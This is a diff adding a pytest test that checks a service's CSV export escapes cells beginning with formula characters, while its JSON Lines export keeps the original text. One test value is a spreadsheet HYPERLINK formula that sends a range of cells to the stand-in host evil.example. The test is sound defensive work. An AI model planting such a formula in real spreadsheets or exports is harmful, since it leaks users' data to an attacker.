@@ -133,3 +133,29 @@ def test_uuid5_without_uuid_objects_is_uuid5() -> None:
         namespace, name = uuid.uuid4(), str(uuid.uuid4())
         assert service._uuid5(namespace.bytes, name) == str(uuid.uuid5(namespace, name))
     assert service._uuid5(uuid.NAMESPACE_URL.bytes, "selection") == str(uuid.uuid5(uuid.NAMESPACE_URL, "selection"))
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text(client, world) -> None:
+    """A researcher's text, a place or a tag beginning with = + - @ (or a tab) gets an apostrophe in the CSV, so a
+    coordinator's spreadsheet shows it rather than running it; JSON Lines keeps the words exactly."""
+    h = world.headers("coordinator")
+    attack = '=HYPERLINK("https://evil.example/?"&G2:G9000,"more")'
+    place = client.post(f"/api/v1/projects/{world.project.id}/places", json={"name": "+44 Quay Road"},
+                        headers=h).json()
+    tag = client.post(f"/api/v1/projects/{world.project.id}/tags", json={"name": "@home"}, headers=h).json()
+    conv = conversation_item(world, place_id=place["id"])
+    consent = consent_item(world, conv["id"])
+    texts = [attack, "-1 for the bus", "\tindented", "a plain = sign inside"]
+    frags = [fragment_item(conv["id"], consent["id"], text=t) for t in texts]
+    assert all(r["status"] == "created" for r in sync(client, world, [conv, consent, *frags]).json()["results"])
+    assert client.put(f"/api/v1/fragments/{frags[0]['id']}/tags/{tag['id']}", headers=h).status_code == 204
+
+    r = client.get(f"/api/v1/projects/{world.project.id}/export/fragments.csv", headers=h)
+    header, *rows = csv.reader(io.StringIO(r.content.decode("utf-8-sig")))
+    col = {name: i for i, name in enumerate(header)}
+    by_text = {row[col["text"]]: row for row in rows}
+    assert set(by_text) == {"'" + t for t in texts[:3]} | {texts[3]}
+    first = by_text["'" + attack]
+    assert (first[col["place"]], first[col["tags"]]) == ("'+44 Quay Road", "'@home")
+    lines = client.get(f"/api/v1/projects/{world.project.id}/export/fragments.jsonl", headers=h).text.splitlines()
+    assert {json.loads(line)["text"] for line in lines} == set(texts)
